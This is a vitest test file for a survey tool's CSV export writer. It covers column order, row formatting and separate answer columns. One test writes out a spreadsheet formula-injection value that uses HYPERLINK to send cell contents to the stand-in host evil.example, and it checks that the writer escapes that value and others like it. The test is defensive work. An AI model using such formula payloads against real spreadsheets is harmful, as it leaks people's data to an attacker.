import { canonical } from '@milepost/engine';
import { checkProgram, type ResponseState } from '@milepost/protocol';
import { buildAnswer, buildProgram, buildResponse, buildSurvey } from '@milepost/testkit';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { dayNumber } from '../intake/local-day.ts';
import { type KnownProgram, knownSurvey, localesOf } from '../program/known.ts';
import type { StoredText } from '../store/store.ts';
import { createCsvWriter } from './csv.ts';

/** A program whose survey asked for NPS in its first version and for satisfaction, in three parts, in its second. */
function buildKnown(): KnownProgram {
  const { program } = checkProgram(
    buildProgram({
      timezone: 'Asia/Tokyo',
      surveys: {
        'support-csat': buildSurvey({
          id: 'recommend',
          type: 'nps',
          text: 'How likely are you to recommend us?',
        }),
        'relationship-nps': buildSurvey({
          id: 'experience',
          type: 'cxi',
          text: 'How was it?',
          needs: 'Were your needs met?',
          ease: 'How easy was it?',
          enjoyment: 'How enjoyable was it?',
          comment: 'Anything else?',
        }),
      },
    }),
  );
  if (!program) throw new Error('the program of this test has faults');
  const known = Object.values(program.surveys).map((content, index) => knownSurvey('s', index + 1, content));
  return {
    project: 'p',
    revision: 2,
    program,
    surveys: new Map([['s', new Map(known.map((one) => [one.version, one]))]]),
    touchpoints: new Map(),
    locales: localesOf(program),
  };
}

function written({
  state = buildResponse({ survey: 's' }),
  ...overrides
}: Partial<StoredText> & { state?: ResponseState }) {
  const csv = createCsvWriter(buildKnown());
  const kept: StoredText = {
    bucket: 0,
    day: dayNumber('2026-11-22'),
    text: canonical(state),
    sent: null,
    received: Date.parse('2026-11-22T07:00:03Z'),
    excluded: [],
    erased: null,
    ...overrides,
  };
  const text = csv.header() + csv.rows([kept]);
  const [row] = parse(text, { bom: true, columns: true }) as Record<string, string>[];
  return { text, row };
}

test('the columns are those of every response, then the segments, then every question of any version', () => {
  const header = createCsvWriter(buildKnown()).header();
  expect(header.startsWith('\uFEFF')).toBe(true);
  expect(header.endsWith('\r\n')).toBe(true);
  expect((parse(header, { bom: true }) as string[][])[0]?.join()).toBe(
    [
      'id,touchpoint,survey,version,channel,shown,day,locale,completed,dismissed,person,account,role',
      'verified,excluded,erased,segment:plan,segment:vintage,segment:fact:queue',
      's.recommend,s.why,s.experience.needs,s.experience.ease,s.experience.enjoyment,s.experience.comment',
      'response',
    ].join(),
  );
});

test('a row has the day that it counts on, its time by the corrected clock, and its answers in their columns', () => {
  const { row } = written({
    day: dayNumber('2026-11-23'),
    sent: Date.parse('2020-01-01T00:00:10Z'),
    state: {
      ...buildResponse({
        survey: 's',
        shown: '2020-01-01T00:00:00Z',
        facts: { queue: 'billing' },
        answers: [buildAnswer('recommend', 9), buildAnswer('why', null)],
        completed: '2020-01-01T00:00:09Z',
      }),
      person: { id: 'u-1', account: 'acme', traits: { plan: 'pro' } },
      verified: false,
    },
    received: Date.parse('2026-11-22T16:00:10Z'),
    excluded: [
      { id: crypto.randomUUID(), reason: 'staff', by: 'ana', at: '2026-11-22T00:00:00.000Z' },
      { id: crypto.randomUUID(), reason: 'test', by: 'ana', at: '2026-11-22T00:00:00.000Z' },
    ],
  });
  expect(row).toMatchObject({
    shown: '2026-11-22T16:00:00.000Z',
    day: '2026-11-23',
    channel: 'in_app',
    completed: 'true',
    dismissed: '',
    person: 'u-1',
    account: 'acme',
    role: '',
    verified: 'false',
    excluded: 'staff;test',
    erased: 'false',
    'segment:plan': 'pro',
    'segment:fact:queue': 'billing',
    's.recommend': '9',
    's.why': '',
  });
});

test('what a person wrote is guarded in every column, and whole in the last one', () => {
  const hostile = '=HYPERLINK("https://evil.example?"&A1);=1+1\n@x,"';
  const { text, row } = written({
    state: {
      ...buildResponse({ survey: 's', locale: '+de', answers: [buildAnswer('why', hostile)] }),
      person: { id: '-u', account: '@a', role: '\t=r', traits: { plan: '=p', vintage: -3 } },
    },
  });
  expect(row).toMatchObject({
    locale: "'+de",
    person: "'-u",
    account: "'@a",
    role: "'\t'=r",
    'segment:plan': "'=p",
    'segment:vintage': '-3',
    's.why': `'=HYPERLINK("https://evil.example?"&A1);'=1+1\n'@x,"`,
  });
  const line = JSON.parse(row?.['response'] ?? '') as ResponseState;
  expect(line.answers?.[0]?.value).toBe(hostile);
  expect(row?.['response']).not.toMatch(/[;\t\r\n]/);
  // Read with another delimiter, as a spreadsheet elsewhere in Europe does, no cell is a formula either.
  for (const delimiter of [';', '\t'])
    for (const cell of text.slice(1).split(new RegExp(`[${delimiter}\r\n]`)))
      expect(cell).not.toMatch(/^["\s]*[=+@]/);
});

test('an answer of the same name in another survey has a column of its own', () => {
  const { row } = written({
    state: buildResponse({ survey: 'other', answers: [buildAnswer('recommend', 9)] }),
  });
  expect(row?.['s.recommend']).toBe('');
});
